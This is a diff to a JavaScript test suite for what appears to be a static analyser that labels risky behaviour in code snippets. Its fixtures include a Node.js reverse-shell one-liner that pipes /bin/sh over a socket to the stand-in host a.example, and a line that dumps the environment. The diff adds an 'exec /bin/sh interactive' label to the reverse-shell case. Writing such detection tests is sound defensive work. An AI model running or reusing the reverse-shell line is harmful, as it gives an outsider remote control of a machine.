@@ -65,7 +65,7 @@ describe.each(readers)('JavaScript read %s', (_how, parser) => {
     ],
     [
       "const s = require('child_process').spawn('/bin/sh'); const c = require('net').connect(4444, 'a.example', () => { c.pipe(s.stdin) })",
-      ['net.request a.example raw-socket,reverse-shell', 'argv /bin/sh'],
+      ['net.request a.example raw-socket,reverse-shell', 'exec /bin/sh interactive', 'argv /bin/sh'],
     ],
     ['console.log(process.env)', ['secret.dump environment']],
     ['console.log(process.env.NODE_ENV, Object.keys(process.env).length)', []],
